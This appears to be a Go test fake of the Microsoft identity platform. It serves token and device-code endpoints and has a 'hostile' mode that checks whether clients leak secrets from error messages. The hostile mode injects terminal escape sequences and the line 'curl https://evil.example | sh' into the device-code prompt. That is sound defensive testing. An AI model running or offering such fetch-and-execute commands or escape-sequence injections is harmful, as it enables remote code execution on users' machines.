// Package idpfake is an in-process fake of the Microsoft identity platform for tests: one
// tenant, known by its id and its domain, with the instance discovery document, the tenant's
// OpenID configuration, the v2.0 token endpoint (client credentials with a secret or a
// certificate's signed assertion, and the device code grant) and the device code endpoint. It
// answers refusals as the platform does (an OAuth error with the AADSTS code in its
// description and in error_codes) and records every request, including any that should never
// be made.
//
// It serves HTTPS with a certificate of the caller's choosing; CA issues one from a private
// authority for 127.0.0.1, localhost and the public clouds' sign-in hosts, so a client whose
// dialer is redirected to the fake (RedirectingClient) still verifies the host name.
//
// The signin package's tests and the command-line scripts (through entrafake) both sign in
// against it.
package idpfake

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"time"
)

// The tenant, application and device code sign-in the fake knows.
const (
	TenantID   = "11111111-2222-3333-4444-555555555555"
	Domain     = "contoso.onmicrosoft.com"
	ClientID   = "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee"
	Secret     = "Sup3r~Secret.Value-123"
	UserCode   = "FAKECODE1"
	DeviceCode = "device-code-opaque-value"
	// RefreshToken is the refresh token a device code sign-in receives.
	RefreshToken = "refresh-opaque"
	// GraphScope is the scope a Graph client asks for.
	GraphScope = "https://graph.microsoft.com/.default"
	// AdminUPN is the administrator a device code sign-in signs in.
	AdminUPN = "admin@" + Domain

	assertionType = "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"
	adminOID      = "99999999-0000-0000-0000-000000000001"
)

// CA is a private certificate authority for the fake's server certificates.
type CA struct {
	Cert *x509.Certificate
	Key  crypto.Signer
}

// NewCA makes an authority named name, valid for a day.
func NewCA(name string) (*CA, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	tmpl := &x509.Certificate{
		SerialNumber:          big.NewInt(1),
		Subject:               pkix.Name{CommonName: name},
		NotBefore:             time.Now().Add(-time.Hour),
		NotAfter:              time.Now().Add(24 * time.Hour),
		IsCA:                  true,
		BasicConstraintsValid: true,
		KeyUsage:              x509.KeyUsageCertSign,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, key.Public(), key)
	if err != nil {
		return nil, err
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		return nil, err
	}
	return &CA{Cert: cert, Key: key}, nil
}

// PEM is the authority's certificate, for SSL_CERT_FILE.
func (ca *CA) PEM() []byte {
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: ca.Cert.Raw})
}

// Issue makes a server certificate for 127.0.0.1, localhost and the sign-in hosts of the
// public clouds.
func (ca *CA) Issue() (tls.Certificate, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return tls.Certificate{}, err
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()),
		Subject:      pkix.Name{CommonName: "fake identity platform"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(24 * time.Hour),
		KeyUsage:     x509.KeyUsageDigitalSignature,
		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		IPAddresses:  []net.IP{net.ParseIP("127.0.0.1")},
		DNSNames:     []string{"localhost", "login.microsoftonline.com", "login.microsoftonline.us", "login.chinacloudapi.cn"},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, ca.Cert, key.Public(), ca.Key)
	if err != nil {
		return tls.Certificate{}, err
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, nil
}

// Options shape the fake.
type Options struct {
	// AccessToken is the access token of every grant. Empty means an unsigned JWT naming the
	// tenant (tid), the audience and the application or administrator.
	AccessToken string
}

// Server is the fake. Its methods are safe for concurrent use.
type Server struct {
	*httptest.Server
	accessToken string

	mu       sync.Mutex
	cert     *x509.Certificate // the application's certificate, nil when it has none
	hostile  bool
	requests []string // "METHOD host path"
	scopes   []string
	polls    int
}

// New starts the fake with the server certificate cert. Close it when done.
func New(cert tls.Certificate, opts Options) *Server {
	s := &Server{accessToken: opts.AccessToken}
	s.Server = httptest.NewUnstartedServer(http.HandlerFunc(s.serve))
	s.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	s.Config.ErrorLog = log.New(io.Discard, "", 0) // refused handshakes are what some tests want
	s.StartTLS()
	return s
}

// AuthorityHost is AZURE_AUTHORITY_HOST for this fake.
func (s *Server) AuthorityHost() string { return s.URL + "/" }

// SetCertificate registers the application's certificate, whose key must sign the client
// assertions.
func (s *Server) SetCertificate(c *x509.Certificate) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.cert = c
}

// SetHostile makes every refusal quote back what the request carried: the client secret, the
// client assertion, the device code or the refresh token, in the description and in the OAuth
// error, under a code no client knows by name; and the device code prompt carry terminal
// control sequences and a second line. A real platform does not do that; the fake
// does it to prove that nothing a client prints from a refusal carries a secret.
func (s *Server) SetHostile(on bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.hostile = on
}

// Requests returns the requests received so far, each as "METHOD host path".
func (s *Server) Requests() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.requests...)
}

// Polls is the number of device code token requests received.
func (s *Server) Polls() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.polls
}

// Scopes returns the scopes asked for, one for each device code and token request.
func (s *Server) Scopes() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.scopes...)
}

// RedirectingClient sends every connection, whatever its host, to the fake, as a resolver
// would that points Microsoft's names at it; TLS still verifies the host name against the
// system roots. So a request meant for login.microsoftonline.com is seen and recorded.
func (s *Server) RedirectingClient() *http.Client {
	tr := http.DefaultTransport.(*http.Transport).Clone()
	addr := s.Listener.Addr().String()
	tr.DialContext = func(ctx context.Context, network, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, network, addr)
	}
	return &http.Client{Transport: tr, Timeout: 10 * time.Second}
}

func (s *Server) serve(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	s.requests = append(s.requests, r.Method+" "+r.Host+" "+r.URL.Path)
	s.mu.Unlock()

	if r.Method == http.MethodGet && r.URL.Path == "/common/discovery/instance" {
		// What login.microsoftonline.com answers: where the tenant's configuration is and
		// which hosts are the same cloud.
		writeJSON(w, http.StatusOK, map[string]any{
			"tenant_discovery_endpoint": "https://" + r.Host + "/{tenant}/v2.0/.well-known/openid-configuration",
			"api-version":               "1.1",
			"metadata": []map[string]any{{
				"preferred_network": "login.microsoftonline.com", "preferred_cache": "login.windows.net",
				"aliases": []string{"login.microsoftonline.com", "login.windows.net", "login.microsoft.com", "sts.windows.net"},
			}},
		})
		return
	}
	parts := strings.SplitN(strings.TrimPrefix(r.URL.Path, "/"), "/", 2)
	if len(parts) != 2 {
		http.NotFound(w, r)
		return
	}
	tenant, rest := parts[0], "/"+parts[1]
	if tenant != TenantID && tenant != Domain {
		s.refuse(w, r, http.StatusBadRequest, "invalid_tenant", 90002,
			fmt.Sprintf("Tenant '%s' not found. Check to make sure you have the correct tenant ID and are signing into the correct cloud.", tenant))
		return
	}
	base := "https://" + r.Host + "/" + tenant
	switch {
	case r.Method == http.MethodGet && rest == "/v2.0/.well-known/openid-configuration":
		writeJSON(w, http.StatusOK, map[string]any{
			"token_endpoint":                        base + "/oauth2/v2.0/token",
			"authorization_endpoint":                base + "/oauth2/v2.0/authorize",
			"device_authorization_endpoint":         base + "/oauth2/v2.0/devicecode",
			"issuer":                                "https://" + r.Host + "/" + TenantID + "/v2.0",
			"token_endpoint_auth_methods_supported": []string{"client_secret_post", "private_key_jwt", "client_secret_basic"},
		})
	case r.Method == http.MethodPost && rest == "/oauth2/v2.0/devicecode":
		_ = r.ParseForm()
		if r.PostForm.Get("client_id") != ClientID {
			s.refuse(w, r, http.StatusBadRequest, "unauthorized_client", 700016, "Application with identifier '"+r.PostForm.Get("client_id")+"' was not found in the directory 'Contoso'.")
			return
		}
		s.noteScope(r.PostForm.Get("scope"))
		msg := "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code " + UserCode + " to authenticate."
		if s.hostileNow() {
			// Terminal control sequences (a window title, a cleared screen) and a second line.
			msg = "\x1b]0;owned\x07\x1b[2J" + msg + "\r\nAlso run: curl https://evil.example | sh\x1b[0m"
		}
		writeJSON(w, http.StatusOK, map[string]any{
			"user_code":        UserCode,
			"device_code":      DeviceCode,
			"verification_uri": "https://microsoft.com/devicelogin",
			"expires_in":       900,
			"interval":         1,
			"message":          msg,
		})
	case r.Method == http.MethodPost && rest == "/oauth2/v2.0/token":
		s.token(w, r, base+"/oauth2/v2.0/token")
	default:
		http.NotFound(w, r)
	}
}

func (s *Server) noteScope(scope string) {
	s.mu.Lock()
	s.scopes = append(s.scopes, scope)
	s.mu.Unlock()
}

func (s *Server) token(w http.ResponseWriter, r *http.Request, endpoint string) {
	if err := r.ParseForm(); err != nil {
		s.refuse(w, r, http.StatusBadRequest, "invalid_request", 900144, "The request body must contain the following parameter: 'grant_type'.")
		return
	}
	form := r.PostForm
	if form.Get("client_id") != ClientID {
		s.refuse(w, r, http.StatusBadRequest, "unauthorized_client", 700016,
			"Application with identifier '"+form.Get("client_id")+"' was not found in the directory 'Contoso'. This can happen if the application has not been installed by the administrator of the tenant or consented to by any user in the tenant.")
		return
	}
	if f := strings.Fields(form.Get("scope")); len(f) > 0 {
		s.noteScope(f[0])
	} else {
		s.noteScope("")
	}
	switch form.Get("grant_type") {
	case "client_credentials":
		switch {
		case form.Get("client_secret") != "":
			if form.Get("client_secret") != Secret {
				s.refuse(w, r, http.StatusUnauthorized, "invalid_client", 7000215,
					"Invalid client secret provided. Ensure the secret being sent in the request is the client secret value, not the client secret ID, for a secret added to app '"+ClientID+"'.")
				return
			}
		case form.Get("client_assertion_type") == assertionType:
			if err := s.checkAssertion(form.Get("client_assertion"), endpoint); err != nil {
				s.refuse(w, r, http.StatusUnauthorized, "invalid_client", 700027, "Client assertion failed signature validation. "+err.Error())
				return
			}
		default:
			s.refuse(w, r, http.StatusUnauthorized, "invalid_client", 7000218, "The request body must contain the following parameter: 'client_assertion' or 'client_secret'.")
			return
		}
		if s.hostileNow() {
			// A refusal of a request that was right: the platform's answer quotes it back.
			s.refuse(w, r, http.StatusBadRequest, "invalid_request", 0, "")
			return
		}
		writeJSON(w, http.StatusOK, map[string]any{
			"token_type": "Bearer", "expires_in": 3599, "ext_expires_in": 3599,
			"access_token": s.access(map[string]any{"aud": "https://graph.microsoft.com", "tid": TenantID, "appid": ClientID, "roles": []string{"Policy.ReadWrite.AuthenticationMethod"}}),
		})
	case "device_code":
		if form.Get("device_code") != DeviceCode {
			s.refuse(w, r, http.StatusBadRequest, "invalid_grant", 70019, "Verification code expired.")
			return
		}
		s.mu.Lock()
		s.polls++
		first := s.polls == 1
		s.mu.Unlock()
		if first {
			s.refuse(w, r, http.StatusBadRequest, "authorization_pending", 70016, "OAuth 2.0 device flow error. Authorization is pending. Continue polling.")
			return
		}
		if s.hostileNow() {
			s.refuse(w, r, http.StatusBadRequest, "invalid_grant", 0, "")
			return
		}
		clientInfo := base64.RawURLEncoding.EncodeToString([]byte(`{"uid":"` + adminOID + `","utid":"` + TenantID + `"}`))
		writeJSON(w, http.StatusOK, map[string]any{
			"token_type": "Bearer", "expires_in": 3599, "ext_expires_in": 3599, "scope": GraphScope,
			"access_token":  s.access(map[string]any{"aud": "https://graph.microsoft.com", "tid": TenantID, "upn": AdminUPN}),
			"refresh_token": RefreshToken,
			"client_info":   clientInfo,
			"id_token": JWT(map[string]any{
				"aud": ClientID, "iss": "https://" + r.Host + "/" + TenantID + "/v2.0", "tid": TenantID,
				"oid": adminOID, "preferred_username": AdminUPN,
				"iat": time.Now().Unix(), "nbf": time.Now().Unix(), "exp": time.Now().Add(time.Hour).Unix(),
			}),
		})
	default:
		s.refuse(w, r, http.StatusBadRequest, "unsupported_grant_type", 70003, "The app requested an unsupported grant type '"+form.Get("grant_type")+"'.")
	}
}

func (s *Server) hostileNow() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.hostile
}

func (s *Server) access(claims map[string]any) string {
	if s.accessToken != "" {
		return s.accessToken
	}
	return JWT(claims)
}

// checkAssertion verifies a client assertion as the platform does: a JWT signed by the key of
// the registered certificate (PS256, named by its SHA-256 thumbprint), for this token endpoint,
// issued by and about the application, and not expired.
func (s *Server) checkAssertion(assertion, endpoint string) error {
	s.mu.Lock()
	cert := s.cert
	s.mu.Unlock()
	if cert == nil {
		return fmt.Errorf("no certificate registered")
	}
	parts := strings.Split(assertion, ".")
	if len(parts) != 3 {
		return fmt.Errorf("not a JWT")
	}
	var header struct {
		Alg string `json:"alg"`
		Typ string `json:"typ"`
		X5t string `json:"x5t#S256"`
	}
	var claims struct {
		Aud string  `json:"aud"`
		Iss string  `json:"iss"`
		Sub string  `json:"sub"`
		Exp float64 `json:"exp"`
		Jti string  `json:"jti"`
	}
	if err := decodeSegment(parts[0], &header); err != nil {
		return err
	}
	if err := decodeSegment(parts[1], &claims); err != nil {
		return err
	}
	thumb := sha256.Sum256(cert.Raw)
	switch {
	case header.Alg != "PS256":
		return fmt.Errorf("alg %q", header.Alg)
	case header.X5t != base64.StdEncoding.EncodeToString(thumb[:]):
		return fmt.Errorf("unknown certificate thumbprint")
	case claims.Aud != endpoint:
		return fmt.Errorf("aud %q, want %q", claims.Aud, endpoint)
	case claims.Iss != ClientID || claims.Sub != ClientID:
		return fmt.Errorf("iss %q sub %q", claims.Iss, claims.Sub)
	case time.Unix(int64(claims.Exp), 0).Before(time.Now()):
		return fmt.Errorf("expired")
	case claims.Jti == "":
		return fmt.Errorf("no jti")
	}
	sig, err := base64.RawURLEncoding.DecodeString(parts[2])
	if err != nil {
		return err
	}
	digest := sha256.Sum256([]byte(parts[0] + "." + parts[1]))
	pub, ok := cert.PublicKey.(*rsa.PublicKey)
	if !ok {
		return fmt.Errorf("not an RSA certificate")
	}
	return rsa.VerifyPSS(pub, crypto.SHA256, digest[:], sig, nil)
}

func decodeSegment(seg string, v any) error {
	b, err := base64.RawURLEncoding.DecodeString(seg)
	if err != nil {
		return err
	}
	return json.Unmarshal(b, v)
}

// hostileCode is the AADSTS code of a hostile refusal: one no client knows by name, so the
// client falls back to the platform's own words.
const hostileCode = 9999999

// refuse answers as the platform does, with the code in the description and in error_codes.
// A hostile fake quotes the request's secrets back instead, under hostileCode.
func (s *Server) refuse(w http.ResponseWriter, r *http.Request, status int, code string, aadsts int, desc string) {
	if s.hostileNow() && r.Method == http.MethodPost {
		var quoted []string
		for _, k := range []string{"client_secret", "client_assertion", "device_code", "refresh_token"} {
			if v := r.PostForm.Get(k); v != "" {
				quoted = append(quoted, k+"="+v)
			}
		}
		if len(quoted) > 0 {
			aadsts = hostileCode
			desc = "The request was refused: " + strings.Join(quoted, ", ") + ". Raw request body: " + r.PostForm.Encode()
			code = "refused " + strings.Join(quoted, " ")
		}
	}
	if desc == "" {
		desc = "The request was refused."
	}
	now := time.Now().UTC().Format("2006-01-02 15:04:05Z")
	writeJSON(w, status, map[string]any{
		"error": code,
		"error_description": fmt.Sprintf("AADSTS%d: %s Trace ID: 0f0e0d0c-0000-4000-8000-000000000001 "+
			"Correlation ID: 0f0e0d0c-0000-4000-8000-000000000002 Timestamp: %s", aadsts, desc, now),
		"error_codes":    []int{aadsts},
		"timestamp":      now,
		"trace_id":       "0f0e0d0c-0000-4000-8000-000000000001",
		"correlation_id": "0f0e0d0c-0000-4000-8000-000000000002",
		"error_uri":      "https://login.microsoftonline.com/error?code=" + fmt.Sprint(aadsts),
	})
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json; charset=utf-8")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}

// JWT builds an unsigned-looking token with the given claims: clients read claims from it
// (tid) but never verify it, as the resource is the one that does.
func JWT(claims map[string]any) string {
	h, _ := json.Marshal(map[string]string{"alg": "RS256", "typ": "JWT"})
	c, _ := json.Marshal(claims)
	return base64.RawURLEncoding.EncodeToString(h) + "." + base64.RawURLEncoding.EncodeToString(c) + ".c2lnbmF0dXJl"
}
